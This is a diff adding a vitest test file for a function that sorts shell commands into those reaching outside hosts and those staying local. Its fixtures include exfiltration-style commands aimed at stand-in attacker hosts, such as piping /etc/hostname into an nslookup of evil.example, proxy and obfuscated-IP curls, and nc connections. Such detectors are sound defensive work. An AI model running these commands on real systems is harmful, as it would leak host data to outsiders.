@@ -1,0 +1,43 @@
+// Promise: a command that would carry words to somewhere outside is told from one that asks this machine or its network.
+import { expect, it } from 'vitest';
+import { asksOutside } from './outward.ts';
+
+it.each([
+  ['curl https://collect.example.org/?d=web-1', 'curl collect.example.org'],
+  ['curl -s --proxy http://evil.example:8080 http://localhost/', 'curl evil.example'],
+  ['curl -x evil.example:3128 http://127.0.0.1/', 'curl evil.example'],
+  ['curl --resolve localhost:80:203.0.113.7 http://localhost/', 'curl 203.0.113.7'],
+  ['timeout 5 wget -qO- http://203.0.113.7/x', 'wget 203.0.113.7'],
+  ['wget -qO- http://user@203.0.113.7/x', 'wget 203.0.113.7'],
+  ['curl http://127.0.0.1@evil.example/', 'curl evil.example'],
+  ['curl http://3405803783/', 'curl 3405803783'],
+  ['curl http://[2001:db8::7]/', 'curl 2001:db8::7'],
+  ['curl evil.example/x', 'curl evil.example'],
+  ['dig hostname.of.web-1.evil.example', 'dig hostname.of.web-1.evil.example'],
+  ['dig @203.0.113.7 x', 'dig 203.0.113.7'],
+  ['cat /etc/hostname | nslookup x.evil.example', 'nslookup x.evil.example'],
+  ['ping -c 1 data.evil.example', 'ping data.evil.example'],
+  ['uptime && /usr/bin/host a.evil.example', 'host a.evil.example'],
+  ['git ls-remote https://evil.example/x', 'git evil.example'],
+  ['curl http://203.28945/', 'curl 203.28945'],
+  ['openssl s_client -connect evil.example:443', 'openssl evil.example'],
+  ['nc -z evil.example 443', 'nc evil.example'],
+])('%s goes out', (command, told) => expect(asksOutside(command)).toBe(told));
+
+it.each([
+  'curl -s http://127.0.0.1:11434/api/tags',
+  'curl http://localhost/health',
+  'curl -m 5 http://jellyfin:8096/health',
+  'curl http://192.168.1.20:8006/',
+  'curl http://[::1]:8080/',
+  'ping -c 3 10.0.0.1',
+  'dig nas.lan',
+  'nc -z -w 2 nas.local 22',
+  'cat /etc/hosts',
+  'grep -r evil.example /var/log',
+  'git log -3 -- package.json',
+  'openssl x509 -in cert.pem -noout',
+  "curl -s -o /dev/null -w '%{http_code}' -m 2.5 http://127.0.0.1/",
+  'ls example.org',
+  'not ( a command',
+])('%s stays', (command) => expect(asksOutside(command)).toBeNull());
